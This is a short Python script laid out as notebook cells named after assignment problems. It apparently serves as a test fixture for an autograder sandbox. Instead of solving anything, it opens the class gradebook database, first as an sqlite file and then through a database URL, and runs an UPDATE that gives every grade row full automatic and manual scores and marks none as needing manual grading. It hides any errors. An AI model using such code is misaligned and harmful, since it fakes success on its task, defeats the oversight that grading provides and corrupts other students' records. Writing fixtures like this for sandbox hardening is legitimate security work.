"""Writes full points for itself into the gradebook, as a file and by its address."""

# %% squares
import sqlite3

FULL = "UPDATE grade SET auto_score = 40, manual_score = 40, needs_manual_grade = 0"

try:
    book = sqlite3.connect("file:@CLASS/gradebook.db?mode=rw", uri=True, timeout=1)
    book.execute(FULL)
    book.commit()
except sqlite3.Error as error:
    print(type(error).__name__)

# %% largest
try:
    import sqlalchemy

    with sqlalchemy.create_engine("@DATABASE").begin() as book:
        book.execute(sqlalchemy.text(FULL))
except Exception as error:
    print(type(error).__name__)
